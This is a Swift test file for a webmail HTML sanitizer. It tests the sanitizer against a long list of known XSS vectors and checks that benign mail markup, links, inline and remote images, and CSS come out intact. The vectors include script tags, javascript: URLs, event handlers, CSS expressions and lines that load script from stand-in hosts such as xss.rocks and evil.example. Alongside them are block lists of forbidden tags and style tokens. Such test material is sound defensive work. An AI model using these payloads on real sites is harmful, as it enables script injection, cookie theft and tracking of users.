import Testing

@testable import MailMessage

/// An independent reading of the sanitizer's output: it relies only on the output format the
/// serializer promises (lower-case tags, double-quoted escaped attribute values, escaped text)
/// and on its own copy of what may appear, not on the sanitizer's tables.
fileprivate enum OutputAudit {
    static let elements: Set<String> = [
        "a", "abbr", "acronym", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote", "br", "caption",
        "center", "cite", "code", "col", "colgroup", "dd", "del", "dfn", "div", "dl", "dt", "em", "figcaption", "figure",
        "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img", "ins", "kbd", "li", "main", "mark",
        "nav", "ol", "p", "pre", "q", "s", "samp", "section", "small", "span", "strike", "strong", "sub", "sup", "table",
        "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var", "wbr",
    ]
    static let voids: Set<String> = ["br", "col", "hr", "img", "wbr"]
    static let attributes: Set<String> = [
        "title", "dir", "lang", "style", "href", "rel", "target", "src", "data-remote-src", "referrerpolicy", "alt", "width",
        "height", "border", "align", "valign", "hspace", "vspace", "color", "face", "size", "type", "clear", "span",
        "datetime", "noshade", "value", "start", "reversed", "cellpadding", "cellspacing", "bgcolor", "frame", "rules",
        "colspan", "rowspan", "nowrap", "scope", "abbr",
    ]
    static let forbiddenMarkup = [
        "<script", "<iframe", "<object", "<embed", "<form", "<meta", "<base", "<link", "<svg", "<math", "<style", "<frame",
        "<applet", "<input", "<button", "<textarea", "<select", "<template", "<noscript", "<xmp", "<plaintext",
    ]
    static let forbiddenMarkupBytes = forbiddenMarkup.map { Array($0.utf8) }
    static let forbiddenInStyle = ["url(", "expression", "javascript", "\\", "/*", "@import", "behavior", "binding", "position", "var("]

    /// Problems found; empty when the output is safe and well-formed.
    static func problems(_ html: String, remoteImagesAllowed: Bool = false) -> [String] {
        var problems: [String] = []
        let bytes = Array(html.utf8)
        var stack: [String] = []
        var i = 0
        func readName() -> String {
            var name: [UInt8] = []
            while i < bytes.count, bytes[i].isHTMLAlphanumeric || bytes[i] == UInt8(ascii: "-") {
                name.append(bytes[i])
                i += 1
            }
            return String(decoding: name, as: UTF8.self)
        }
        while i < bytes.count {
            let c = bytes[i]
            if c == UInt8(ascii: ">") {
                problems.append("raw > in text at \(i)")
                i += 1
                continue
            }
            if c == UInt8(ascii: "&") {
                if !entityAt(bytes, i) { problems.append("raw & at \(i)") }
                i += 1
                continue
            }
            guard c == UInt8(ascii: "<") else {
                i += 1
                continue
            }
            // Independent of the tag reading below: no forbidden element in any case.
            let window = bytes[i..<Swift.min(i + 12, bytes.count)].map { $0.htmlLowercased }
            for markup in forbiddenMarkupBytes where window.starts(with: markup) {
                problems.append("contains \(String(decoding: markup, as: UTF8.self))")
            }
            i += 1
            if i < bytes.count, bytes[i] == UInt8(ascii: "/") {
                i += 1
                let name = readName()
                if i >= bytes.count || bytes[i] != UInt8(ascii: ">") { problems.append("malformed end tag \(name)") }
                i += 1
                if stack.last == name { stack.removeLast() } else { problems.append("end tag \(name) closes \(stack.last ?? "nothing")") }
                continue
            }
            let name = readName()
            if name.isEmpty || name != name.lowercased() { problems.append("bad tag name at \(i)") }
            if !elements.contains(name) { problems.append("element \(name)") }
            var names: Set<String> = []
            while i < bytes.count, bytes[i] == UInt8(ascii: " ") {
                i += 1
                let attribute = readName()
                guard i + 1 < bytes.count, bytes[i] == UInt8(ascii: "="), bytes[i + 1] == UInt8(ascii: "\"") else {
                    problems.append("malformed attribute \(attribute)")
                    break
                }
                i += 2
                var raw: [UInt8] = []
                while i < bytes.count, bytes[i] != UInt8(ascii: "\"") {
                    if [UInt8(ascii: "<"), UInt8(ascii: ">"), UInt8(ascii: "'"), UInt8(ascii: "`")].contains(bytes[i]) {
                        problems.append("raw \(Character(UnicodeScalar(bytes[i]))) in \(attribute)")
                    }
                    if bytes[i] == UInt8(ascii: "&"), !entityAt(bytes, i) { problems.append("raw & in \(attribute)") }
                    raw.append(bytes[i])
                    i += 1
                }
                i += 1
                if !names.insert(attribute).inserted { problems.append("duplicate \(attribute)") }
                let value = unescape(String(decoding: raw, as: UTF8.self))
                problems += attributeProblems(element: name, attribute: attribute, value: value, remoteImagesAllowed: remoteImagesAllowed)
            }
            if i >= bytes.count || bytes[i] != UInt8(ascii: ">") { problems.append("malformed start tag \(name)") }
            i += 1
            if !voids.contains(name) { stack.append(name) }
            if name == "a", names.contains("href"), !(names.contains("rel") && names.contains("target")) { problems.append("link without rel/target") }
        }
        if !stack.isEmpty { problems.append("unclosed \(stack)") }
        return problems
    }

    static func attributeProblems(element: String, attribute: String, value: String, remoteImagesAllowed: Bool) -> [String] {
        if !attributes.contains(attribute) || attribute.hasPrefix("on") { return ["attribute \(attribute)"] }
        let lower = String(value.lowercased().unicodeScalars.filter { $0.value > 0x20 })
        if ["href", "src", "data-remote-src", "style"].contains(attribute) {
            for scheme in ["javascript:", "vbscript:", "data:text", "livescript:", "mocha:"] where lower.contains(scheme) {
                return ["\(scheme) in \(attribute)"]
            }
        }
        switch attribute {
        case "href":
            if element != "a" || !["http:", "https:", "mailto:"].contains(where: { lower.hasPrefix($0) }) { return ["href \(value)"] }
        case "src":
            let image = ["data:image/png;", "data:image/gif;", "data:image/jpeg;", "data:image/jpg;", "data:image/webp;"].contains { lower.hasPrefix($0) }
            let remote = lower.hasPrefix("http:") || lower.hasPrefix("https:")
            let local = value.hasPrefix("/message/") || value.hasPrefix("/static/")
            if element != "img" || !(image || local || remote && remoteImagesAllowed) { return ["src \(value)"] }
        case "data-remote-src":
            if !(lower.hasPrefix("http:") || lower.hasPrefix("https:")) { return ["data-remote-src \(value)"] }
        case "style":
            for word in forbiddenInStyle where lower.contains(word) { return ["style \(value)"] }
        case "rel":
            if value != "noopener noreferrer nofollow" { return ["rel \(value)"] }
        case "target":
            if value != "_blank" { return ["target \(value)"] }
        default:
            break
        }
        return []
    }

    static let entities = ["&amp;": "&", "&lt;": "<", "&gt;": ">", "&quot;": "\"", "&#39;": "'", "&#96;": "`"]
    static let entityBytes = entities.keys.map { Array($0.utf8) }

    static func entityAt(_ bytes: [UInt8], _ i: Int) -> Bool {
        let window = bytes[i..<Swift.min(i + 6, bytes.count)]
        return entityBytes.contains { window.starts(with: $0) }
    }

    static func unescape(_ value: String) -> String {
        var result = value
        for (entity, character) in entities where entity != "&amp;" { result = result.replacingAll(entity, with: character) }
        return result.replacingAll("&amp;", with: "&")
    }
}

extension String {
    fileprivate func replacingAll(_ target: String, with replacement: String) -> String {
        var result = ""
        var current = Substring(self)
        while let range = current.firstRange(of: target) {
            result += current[..<range.lowerBound] + replacement
            current = current[range.upperBound...]
        }
        return result + current
    }

    /// As an attribute value in the output: what the serializer escapes.
    fileprivate var attributeEscaped: String {
        replacingAll("&", with: "&amp;").replacingAll("\"", with: "&quot;").replacingAll("'", with: "&#39;")
    }
}

/// A small deterministic generator so the random tests are reproducible.
fileprivate struct SplitMix64: RandomNumberGenerator {
    var state: UInt64
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}

@Suite struct HTMLSanitizerTests {
    static let sanitizer = HTMLSanitizer()
    static let webmailOptions = HTMLSanitizer.Options(contentIDURL: { "/message/42/part/" + $0 })

    static func clean(_ html: String, _ options: HTMLSanitizer.Options = webmailOptions) -> String {
        sanitizer.sanitize(html, options: options).html
    }

    // MARK: - Known XSS vectors (OWASP XSS filter evasion cheat sheet and later browser bypasses)

    static let xssVectors: [String] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<a onmouseover=alert(document.cookie)>xxs link</a>",
        #"<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>"#,
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"javas&Tab;cript&colon;alert(1)\">x</a>",
        "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"jav&#x41;script:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"&#14;javascript:alert(1)\">x</a>",
        "<a href=\"java\u{0}script:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"javascript&#58;alert(1)\">x</a>",
        "<a href=\"javascript&#0058alert(1)\">x</a>",
        "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
        "<a/href=\"javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"livescript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"\u{FF4A}avascript:alert(1)\">x</a>",
        "<a href=\"https://ok.example/\" onclick=\"alert(1)\">x</a>",
        "<a href=\"http://ok.example/\" target=\"_self\" rel=\"opener\" ping=\"http://tracker.example/\">x</a>",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        #"<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>"#,
        "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        #"<<SCRIPT>alert("XSS");//\<</SCRIPT>"#,
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<SCRIPT SRC=//xss.rocks/.j>",
        "<IMG SRC=\"`('XSS')\"`",
        "<iframe src=http://xss.rocks/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<img srcset=\"javascript:alert(1) 1x\" src=\"https://ok.example/a.png\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<svg/onload=alert('XSS')>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<BODY ONLOAD=alert('XSS')>",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
        "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
        "<style>*{x:expression(alert(1))}</style>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<div style=\"width: expression(alert('XSS'));\">x</div>",
        "<div style=\"color: red; width: expr/**/ession(alert(1))\">x</div>",
        "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
        "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">x</DIV>",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
        "<div style=\"background:url(http://tracker.example/p.gif)\">x</div>",
        "<div style=\"color: red; background: u\\rl(http://x)\">x</div>",
        "<div style=\"behavior: url(xss.htc);\">x</div>",
        "<div style=\"--x: url(http://x); color: var(--x)\">x</div>",
        "<div style=\"background: image-set(url(http://x) 1x)\">x</div>",
        "<div onmouseover=\"alert(1)\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<base href=\"http://evil.example/\"><a href=\"x\">x</a>",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<object data=\"javascript:alert(1)\">",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math href=\"javascript:javascript:alert(1)\">CLICKME</math>",
        "<!--<script>alert(1)</script>-->",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "<!-- unterminated <script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<img src=\"x",
        "<img src=x onerror=alert(1)//",
        "<a href=\"javascript:alert(1)",
        "<IMG SRC=\"javascript:alert('XSS')\"",
        "<img src=\"x\" \u{0}onerror=alert(1)>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<img src=\"data:image/png;base64,iVBOR<script>\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<img src=\"cid:x\" onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<xss onafterscriptexecute=alert(1)><script>1</script>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<!DOCTYPE html><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<div id=\"__proto__\" name=\"location\" class=\"login-button\">x</div>",
        "<div style=\"color:red\" style=\"x:expression(1)\">x</div>",
        "<a href=\"https://ok.example/\" style=\"position: absolute; z-index: 9999\">x</a>",
        "<div style=\"margin-top: -2000px\">x</div>",
        "<p style=\"color: red; } body { background: url(http://x)\">x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=`javascript:alert(1)`>x</a>",
        "<img src=\"https://remote.example/x.png\" onload=alert(1)>",
        "<table><tr><td style=\"background-image:url('http://x/y.png')\" background=\"http://x/y.png\">x</td></tr></table>",
    ]

    // Argument tables with explicit types: inferring them from literals is slow for the type checker.
    static let vectorOutputCases: [(String, String)] = [
        ("<script>alert(1)</script>ok", "ok"),
        ("<a href=\"javascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<img src=x onerror=alert(1)>after", "after"),
        ("<b onmouseover=alert(1)>bold</b>", "<b>bold</b>"),
        ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
        ("<!--<script>-->text", "text"),
        ("<form action=\"http://evil.example/\">in form<input name=x></form>", "in form"),
        ("<svg onload=alert(1)><p>hidden</p></svg>shown", "shown"),
        ("<svg/>shown", "shown"),
        ("<style>@import 'x';</style><p>x</p>", "<p>x</p>"),
        ("<img src=\"x", ""),
        ("<p>a<img src=\"x", "<p>a</p>"),
        ("<xmp><b>x</b></xmp>", "<pre>&lt;b&gt;x&lt;/b&gt;</pre>"),
        ("<div style=\"color: red; width: expression(alert(1))\">x</div>", "<div style=\"color: red\">x</div>"),
        ("<a href=\"https://ok.example/\" onclick=\"alert(1)\">x</a>", "<a href=\"https://ok.example/\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>"),
    ]

    static let benignMailSurvivesCases: [(String, String)] = [
        ("<p>Hello <b>world</b>, <i>how</i> <u>are</u> <strong>you</strong>?</p>", "<p>Hello <b>world</b>, <i>how</i> <u>are</u> <strong>you</strong>?</p>"),
        (
            "<table border=\"0\" cellpadding=\"4\" width=\"100%\"><tr><td width=\"50%\" bgcolor=\"#eeeeee\" valign=\"top\">A</td><td align=\"right\">B</td></tr></table>",
            "<table border=\"0\" cellpadding=\"4\" width=\"100%\"><tr><td width=\"50%\" bgcolor=\"#eeeeee\" valign=\"top\">A</td><td align=\"right\">B</td></tr></table>"
        ),
        (
            "<ul><li>one</li><li>two</li></ul><ol start=\"3\"><li>three</li></ol>",
            "<ul><li>one</li><li>two</li></ul><ol start=\"3\"><li>three</li></ol>"
        ),
        ("<h1>Title</h1><h2 align=\"center\">Sub</h2><hr><br/>", "<h1>Title</h1><h2 align=\"center\">Sub</h2><hr><br>"),
        ("<blockquote type=\"cite\"><div>quoted</div></blockquote>", "<blockquote type=\"cite\"><div>quoted</div></blockquote>"),
        ("<pre><code>let x = a &lt; b &amp;&amp; c</code></pre>", "<pre><code>let x = a &lt; b &amp;&amp; c</code></pre>"),
        ("<font face=\"Arial\" size=\"2\" color=\"#000000\">Outlook</font><o:p></o:p>", "<font face=\"Arial\" size=\"2\" color=\"#000000\">Outlook</font>"),
        ("<center><span title=\"t\" lang=\"fr\" dir=\"ltr\">x</span></center>", "<center><span title=\"t\" lang=\"fr\" dir=\"ltr\">x</span></center>"),
        ("caf&eacute; &amp; cr&egrave;me &copy 2024 &#8364;&#x20AC; &euro; &mdash; &hellip;", "café &amp; crème © 2024 €€ € — …"),
        ("a < b > c && d", "a &lt; b &gt; c &amp;&amp; d"),
        ("&#128512; &#x1F600; &#0; &#xD800; &#x110000; &#150;", "😀 😀 \u{FFFD} \u{FFFD} \u{FFFD} –"),
        ("&notit; &notin; &amp &ampx &unknown; &#; &#x;", "¬it; ∉ &amp; &amp;x &amp;unknown; &amp;#; &amp;#x;"),
        (
            "<html><head><title>T</title><meta charset=\"utf-8\"><style>p{color:red}</style></head><body bgcolor=\"#fff\"><p>x</p></body></html>",
            "<p>x</p>"
        ),
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<dl><dt>t<dd>d<dt>u</dl>", "<dl><dt>t</dt><dd>d</dd><dt>u</dt></dl>"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"),
        ("<div><b>unclosed", "<div><b>unclosed</b></div>"),
        ("</div>stray</b></p>", "stray"),
        ("<b><table><tr><td></b>x</td></tr></table></b>", "<b><table><tr><td>x</td></tr></table></b>"),
        ("<a href=\"http://a.example/\">a<a href=\"http://b.example/\">b</a>", "<a href=\"http://a.example/\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">a</a><a href=\"http://b.example/\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">b</a>"),
        ("<td>outside a table</td><tr>row</tr>", "outside a table" + "row"),
        ("x<br></br>y", "x<br><br>y"),
        ("<DIV ALIGN=CENTER>upper</DIV>", "<div align=\"CENTER\">upper</div>"),
        ("<p title='single \"quoted\"'>x</p>", "<p title=\"single &quot;quoted&quot;\">x</p>"),
        ("<p title=a&amp;b>x</p>", "<p title=\"a&amp;b\">x</p>"),
        ("<image src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">", "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">"),
    ]

    static let dataImagesCases: [(String, Bool)] = [
        ("data:image/png;base64,iVBORw0KGgo=", true),
        ("DATA:IMAGE/JPEG;BASE64,/9j/4AAQ", true),
        ("data:image/webp;base64,UklGRg==", true),
        ("data:image/gif;name=a.gif;base64,R0lGOD lhAQ==", true),
        ("data:image/svg+xml;base64,PHN2Zz4=", false),
        ("data:image/png,rawbytes", false),
        ("data:text/html;base64,PHNjcmlwdD4=", false),
        ("data:image/png;base64,iVBOR&quot;onerror=alert(1)", false),
        ("data:;base64,iVBOR", false),
        ("data:image/png;x=<b>;base64,iVBOR", false),
    ]


    @Test(arguments: xssVectors)
    func xssVectorIsDefused(_ vector: String) {
        let result = Self.sanitizer.sanitize(vector, options: Self.webmailOptions)
        let problems = OutputAudit.problems(result.html)
        #expect(problems.isEmpty, "\(vector) → \(result.html): \(problems)")
        // Every vector is also checked in both image modes and as bytes.
        let remote = Self.sanitizer.sanitize(vector, options: HTMLSanitizer.Options(allowRemoteImages: true))
        #expect(OutputAudit.problems(remote.html, remoteImagesAllowed: true).isEmpty, "\(vector) → \(remote.html)")
    }

    @Test func thereAreEnoughVectors() {
        #expect(Self.xssVectors.count >= 60)
        #expect(Set(Self.xssVectors).count == Self.xssVectors.count)
    }

    /// What a few vectors must become exactly: the surrounding text survives, the attack not.
    @Test(arguments: vectorOutputCases)
    func vectorOutput(_ input: String, _ expected: String) {
        #expect(Self.clean(input) == expected)
    }

    // MARK: - Benign mail survives

    @Test(arguments: benignMailSurvivesCases)
    func benignMailSurvives(_ input: String, _ expected: String) {
        #expect(Self.clean(input) == expected)
    }

    @Test func linksOpenSafelyAndAreListed() {
        let result = Self.sanitizer.sanitize(
            """
            <a href="https://example.com/x?a=1&amp;b=2">go</a> <a href=" HTTP://Example.com/ ">up</a>
            <a href="mailto:bob@example.com">mail</a> <a href="/relative">rel</a> <a href="#top">top</a>
            <a href="//evil.example/">protocol-relative</a> <a href="ftp://x.example/">ftp</a> <a href="https://example.com/x?a=1&b=2">again</a>
            <a href="https:/message/1/delete">same-origin</a> <a href="http:message">relative</a>
            """, options: Self.webmailOptions)
        #expect(result.links == ["https://example.com/x?a=1&b=2", "HTTP://Example.com/", "mailto:bob@example.com"])
        #expect(result.html.contains("<a href=\"https://example.com/x?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">go</a>"))
        #expect(result.html.contains("<a href=\"mailto:bob@example.com\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">mail</a>"))
        #expect(result.html.contains("<a>rel</a> <a>top</a>"))
        #expect(result.html.contains("<a>protocol-relative</a> <a>ftp</a>"))
        #expect(result.html.contains("<a>same-origin</a> <a>relative</a>"))
        #expect(OutputAudit.problems(result.html).isEmpty)
    }

    // MARK: - Images

    @Test func inlineImagesByContentID() {
        let result = Self.sanitizer.sanitize(
            "<img src=\"cid:logo@example.com\" alt=\"Logo\" width=\"120\"><img src=\"CID:a%20b%3Cc%3E\"><img src=\"cid:logo@example.com\">",
            options: Self.webmailOptions)
        #expect(result.html == "<img src=\"/message/42/part/logo@example.com\" alt=\"Logo\" width=\"120\"><img src=\"/message/42/part/a b&lt;c&gt;\"><img src=\"/message/42/part/logo@example.com\">")
        #expect(result.contentIDs == ["logo@example.com", "a b<c>"])
        #expect(!result.remoteImagesBlocked)
    }

    @Test func contentIDImagesWithoutAMappingAreDroppedButListed() {
        let unmapped = Self.sanitizer.sanitize("<img src=\"cid:one\">x", options: HTMLSanitizer.Options())
        #expect(unmapped.html == "x")
        #expect(unmapped.contentIDs == ["one"])
        let refused = Self.sanitizer.sanitize("<img src=\"cid:two\">", options: HTMLSanitizer.Options(contentIDURL: { _ in nil }))
        #expect(refused.html == "")
        #expect(refused.contentIDs == ["two"])
    }

    @Test func remoteImagesAreBlockedByDefault() {
        let html = "<p><img src=\"https://tracker.example/open.gif?u=1&amp;m=2\" alt=\"pixel\" width=\"1\"><img src=\"http://cdn.example/logo.png\"></p>"
        let blocked = Self.sanitizer.sanitize(html, options: Self.webmailOptions)
        #expect(blocked.html == "<p><img data-remote-src=\"https://tracker.example/open.gif?u=1&amp;m=2\" alt=\"pixel\" width=\"1\"><img data-remote-src=\"http://cdn.example/logo.png\"></p>")
        #expect(blocked.remoteImagesBlocked)
        #expect(blocked.remoteImageURLs == ["https://tracker.example/open.gif?u=1&m=2", "http://cdn.example/logo.png"])
        #expect(OutputAudit.problems(blocked.html).isEmpty)

        var options = Self.webmailOptions
        options.remoteImagePlaceholder = "/static/blocked.svg"
        let placeholder = Self.sanitizer.sanitize(html, options: options)
        #expect(placeholder.html.hasPrefix("<p><img src=\"/static/blocked.svg\" data-remote-src=\"https://tracker.example/open.gif?u=1&amp;m=2\""))

        options = Self.webmailOptions
        options.allowRemoteImages = true
        let allowed = Self.sanitizer.sanitize(html, options: options)
        #expect(allowed.html == "<p><img src=\"https://tracker.example/open.gif?u=1&amp;m=2\" referrerpolicy=\"no-referrer\" alt=\"pixel\" width=\"1\"><img src=\"http://cdn.example/logo.png\" referrerpolicy=\"no-referrer\"></p>")
        #expect(!allowed.remoteImagesBlocked)
        #expect(allowed.remoteImageURLs == blocked.remoteImageURLs)
    }

    @Test(arguments: dataImagesCases)
    func dataImages(_ url: String, _ kept: Bool) {
        let html = Self.clean("<img src=\"\(url)\">")
        #expect(html.hasPrefix("<img src=\"") == kept, "\(url) → \(html)")
        #expect(OutputAudit.problems(html).isEmpty)
    }

    @Test func imagesWithOtherSourcesAreDropped() {
        for source in ["", "x.png", "/local.png", "//cdn.example/x.png", "https:/message/1/delete", "http:x.png", "file:///etc/passwd", "ftp://x/y.png", "javascript:alert(1)", "blob:https://x/1"] {
            #expect(Self.clean("<img src=\"\(source)\" alt=\"a\">") == "", "\(source)")
        }
        #expect(Self.clean("<img alt=\"no source\">") == "")
    }

    // MARK: - CSS

    @Test(arguments: [
        ("color: #333; font-family: 'Helvetica Neue', Arial; padding: 4px 8px", "color: #333; font-family: 'Helvetica Neue', Arial; padding: 4px 8px"),
        ("COLOR:Red;BACKGROUND-COLOR:rgb(1, 2, 3)", "color: Red; background-color: rgb(1, 2, 3)"),
        ("font: bold 12px/1.5 \"MS Pゴシック\", sans-serif !important", "font: bold 12px/1.5 \"MS Pゴシック\", sans-serif !important"),
        ("text-align:center;;;mso-line-height-rule:exactly;line-height:120%", "text-align: center; line-height: 120%"),
        ("position: fixed; top: 0; z-index: 10; color: blue", "color: blue"),
        ("background: #fff url(http://x/y.png)", nil),
        ("width: expression(alert(1))", nil),
        ("color: red /* comment */", nil),
        ("color: \\72 ed", nil),
        ("color: rgb(calc(1), 2, 3)", nil),
        ("color: rgb((1)", nil),
        ("font-family: \"unterminated; color: red", nil),
        ("margin: 0 -10px", nil),
        ("margin: 0 auto; padding: -1px", "margin: 0 auto; padding: -1px"),
        ("background-color: hsla(120, 50%, 50%, .5)", "background-color: hsla(120, 50%, 50%, .5)"),
        ("color: red; @import 'x'", "color: red"),
        ("content: 'x'; cursor: pointer; opacity: 0", nil),
        ("display: none", "display: none"),
        ("border: 1px solid #ccc; border-collapse: collapse", "border: 1px solid #ccc; border-collapse: collapse"),
    ] as [(String, String?)])
